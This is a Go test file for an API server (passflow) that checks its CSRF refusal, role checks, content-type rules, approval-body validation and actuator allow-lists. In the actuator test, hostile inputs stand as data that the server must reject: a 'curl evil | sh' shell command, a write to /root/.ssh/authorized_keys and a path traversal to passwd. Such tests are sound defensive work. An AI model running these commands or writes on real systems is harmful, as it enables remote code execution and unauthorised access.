package api

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/passflow/passflow/access"
)

// TestCrossOriginRequestsRefused: a browser's cross-origin request that
// could change something (a web page POSTing text/plain to start a pass) is
// refused with 403 before any handler runs; reads, and requests from the
// CLI or Alertmanager (no browser headers), are not.
func TestCrossOriginRequestsRefused(t *testing.T) {
	h := New(nil, nil, Options{Auth: allRoles}) // no Temporal client: a request that reached a handler would fail otherwise
	tests := []struct {
		name, method, path string
		header             map[string]string
		code               int
	}{
		{"cross-site POST starting a pass", http.MethodPost, "/v1/targets/svc/passes",
			map[string]string{"Content-Type": "text/plain", "Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"foreign Origin, no Sec-Fetch-Site", http.MethodPost, "/v1/passes/pass/svc/1/cancel",
			map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
		{"cross-site PUT of a target", http.MethodPut, "/v1/targets/svc",
			map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"cross-site DELETE", http.MethodDelete, "/v1/targets/svc",
			map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
		// Alertmanager and the CLI send no browser headers: the webhook's own
		// validation answers (an empty body is a 400), not the CSRF check.
		{"a webhook without browser headers", http.MethodPost, "/v1/alerts", map[string]string{"Content-Type": "application/json"}, http.StatusBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(""))
			for k, v := range tt.header {
				req.Header.Set(k, v)
			}
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			if rec.Code != tt.code {
				t.Fatalf("%s %s: %d %s, want %d", tt.method, tt.path, rec.Code, rec.Body, tt.code)
			}
			var body map[string]string
			if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || body["error"] == "" {
				t.Errorf("answer %q: want a JSON error", rec.Body)
			}
			if tt.code == http.StatusForbidden && !strings.Contains(body["error"], "cross-origin") {
				t.Errorf("refusal %q: want it to say cross-origin", body["error"])
			}
		})
	}
}

// TestPanicIsAJSONError: a handler that panics (here, on the missing
// Temporal client) answers 500 with a JSON error instead of dropping the
// connection.
func TestPanicIsAJSONError(t *testing.T) {
	rec := httptest.NewRecorder()
	New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/targets", nil))
	var body map[string]string
	if rec.Code != http.StatusInternalServerError || json.Unmarshal(rec.Body.Bytes(), &body) != nil || body["error"] == "" {
		t.Fatalf("%d %q, want 500 with a JSON error", rec.Code, rec.Body)
	}
}

// TestApprovalBodyRefused: an answer that names its own approver (the
// approver is the caller's identity), leaves out its answer, carries
// trailing data or oversized text is refused with a 400 naming what was
// wrong, before it reaches any pass.
func TestApprovalBodyRefused(t *testing.T) {
	tests := []struct{ name, body, want string }{
		{"approved missing", `{"reason": "ok"}`, "approved: expected true or false"},
		{"a typed approver", `{"approver": "alice", "approved": true}`, "approver: the approver is the caller's identity (tester)"},
		{"trailing garbage", `{"approved": true} garbage`, "found more after the object"},
		{"two objects", `{"approved": true}{"approved": false}`, "found more after the object"},
		{"unknown field", `{"approved": true, "quorum": 0}`, "unknown field"},
		{"approved a string", `{"approved": "yes"}`, "approval body"},
		{"reason too long", `{"approved": true, "reason": "` + strings.Repeat("x", 2000) + `"}`, "at most 1024 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := httptest.NewRecorder()
			req := httptest.NewRequest(http.MethodPost, "/v1/passes/pass/svc/1/approval", strings.NewReader(tt.body))
			req.Header.Set("Content-Type", "application/json")
			New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, req)
			var body map[string]string
			_ = json.Unmarshal(rec.Body.Bytes(), &body)
			if rec.Code != http.StatusBadRequest || !strings.Contains(body["error"], tt.want) {
				t.Errorf("%s: %d %q, want 400 saying %q", tt.body, rec.Code, body["error"], tt.want)
			}
		})
	}
}

// allRoles identifies every request as "tester", who holds every role.
var allRoles = Auth{
	Identify: func(*http.Request) string { return "tester" },
	Policy:   mustPolicy("users: {tester: [viewer, operator, trigger, approver]}"),
}

func mustPolicy(yaml string) *access.Policy {
	p, err := access.Parse("test", []byte(yaml))
	if err != nil {
		panic(err)
	}
	return p
}

// TestRolesGuardEveryRoute: without an identity every route is a 401, and
// without the route's role a 403, before any handler runs (the handler has
// no Temporal client: reaching it would be a 502 or a panic).
func TestRolesGuardEveryRoute(t *testing.T) {
	routes := []struct {
		method, path string
		role         access.Role
	}{
		{http.MethodGet, "/metrics", access.Viewer},
		{http.MethodGet, "/v1/targets", access.Viewer},
		{http.MethodPut, "/v1/targets/svc", access.Operator},
		{http.MethodGet, "/v1/targets/svc", access.Viewer},
		{http.MethodDelete, "/v1/targets/svc", access.Operator},
		{http.MethodPost, "/v1/targets/svc/pause", access.Operator},
		{http.MethodPost, "/v1/targets/svc/resume", access.Operator},
		{http.MethodPost, "/v1/targets/svc/passes", access.Operator},
		{http.MethodGet, "/v1/targets/svc/history", access.Viewer},
		{http.MethodGet, "/v1/targets/svc/audit", access.Viewer},
		{http.MethodPost, "/v1/alerts", access.Trigger},
		{http.MethodGet, "/v1/approvals", access.Viewer},
		{http.MethodGet, "/v1/passes/pass/svc/1", access.Viewer},
		{http.MethodPost, "/v1/passes/pass/svc/1/cancel", access.Operator},
		{http.MethodPost, "/v1/passes/pass/svc/1/approval", access.Approver},
	}
	nobody := New(nil, prometheus.NewRegistry(), Options{Auth: Auth{Identify: func(*http.Request) string { return "" }, Policy: allRoles.Policy}})
	for _, rt := range routes {
		t.Run(rt.method+" "+rt.path, func(t *testing.T) {
			rec := httptest.NewRecorder()
			nobody.ServeHTTP(rec, httptest.NewRequest(rt.method, rt.path, strings.NewReader("{}")))
			if rec.Code != http.StatusUnauthorized || rec.Header().Get("WWW-Authenticate") == "" {
				t.Errorf("no identity: %d %q, want 401 with a challenge", rec.Code, rec.Body.String())
			}
			// Someone holding every role but this one.
			var others []string
			for _, r := range access.Roles {
				if r != rt.role {
					others = append(others, string(r))
				}
			}
			h := New(nil, prometheus.NewRegistry(), Options{Auth: Auth{Identify: func(*http.Request) string { return "eve" },
				Policy: mustPolicy("users: {eve: [" + strings.Join(others, ", ") + "]}")}})
			rec = httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest(rt.method, rt.path, strings.NewReader("{}")))
			if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "eve does not hold the "+string(rt.role)+" role") {
				t.Errorf("without %s: %d %q, want 403 naming the role", rt.role, rec.Code, rec.Body.String())
			}
		})
	}
}

// TestBodiesNeedTheirContentType: a route that takes a body refuses one of
// another media type with 415, before reading it.
func TestBodiesNeedTheirContentType(t *testing.T) {
	for _, tt := range []struct{ method, path, ctype string }{
		{http.MethodPut, "/v1/targets/svc", "text/plain"},
		{http.MethodPut, "/v1/targets/svc", ""},
		{http.MethodPost, "/v1/alerts", "application/x-www-form-urlencoded"},
		{http.MethodPost, "/v1/passes/pass/svc/1/approval", "text/plain"},
	} {
		req := httptest.NewRequest(tt.method, tt.path, strings.NewReader("{}"))
		if tt.ctype != "" {
			req.Header.Set("Content-Type", tt.ctype)
		}
		rec := httptest.NewRecorder()
		New(nil, nil, Options{Auth: allRoles}).ServeHTTP(rec, req)
		if rec.Code != http.StatusUnsupportedMediaType || !strings.Contains(rec.Body.String(), "Content-Type: expected") {
			t.Errorf("%s %s as %q: %d %s, want 415 naming the expected type", tt.method, tt.path, tt.ctype, rec.Code, rec.Body)
		}
	}
}

// TestRequestsCannotNameArbitraryActuators: a target sent to the API may
// run a command only from the server's allow-list and write files only
// under its allowed directories; anything else is a 403 naming the field,
// before anything is registered (the handler has no Temporal client).
func TestRequestsCannotNameArbitraryActuators(t *testing.T) {
	const base = `name: svc
params: [{name: threads, type: int, min: 1, max: 64, current: 8}]
objective: {metric: cost, goal: minimize}
telemetry: {prometheus: {url: "http://127.0.0.1:9090"}, queries: {cost: "cost{cohort=\"{{.Cohort}}\"}"}}
`
	h := New(nil, nil, Options{Auth: allRoles, Commands: []string{"/usr/local/bin/apply-config"}, FileDirs: []string{"/etc/svc"}})
	for _, tt := range []struct{ actuator, want string }{
		{`{command: {argv: [/bin/sh, -c, "curl evil | sh"]}}`, `actuator.command.argv[0]: "/bin/sh" is not on the server's allow-list`},
		{`{command: {argv: [/usr/bin/apply-config]}}`, `"/usr/bin/apply-config" is not on the server's allow-list`},
		{`{file: {path: /etc/svc/conf.yaml, argv: [/bin/sh, -c, id]}}`, `actuator.file.argv[0]: "/bin/sh" is not on the server's allow-list`},
		{`{file: {path: /root/.ssh/authorized_keys}}`, `actuator.file.path: "/root/.ssh/authorized_keys" is not under a directory the server allows`},
		{`{file: {path: /etc/svc/../passwd}}`, "is not under a directory the server allows"},
	} {
		req := httptest.NewRequest(http.MethodPut, "/v1/targets/svc", strings.NewReader(base+"actuator: "+tt.actuator+"\n"))
		req.Header.Set("Content-Type", "application/yaml")
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		var body map[string]string
		_ = json.Unmarshal(rec.Body.Bytes(), &body)
		if rec.Code != http.StatusForbidden || !strings.Contains(body["error"], tt.want) {
			t.Errorf("actuator %s: %d %s, want 403 saying %q", tt.actuator, rec.Code, rec.Body, tt.want)
		}
	}
}
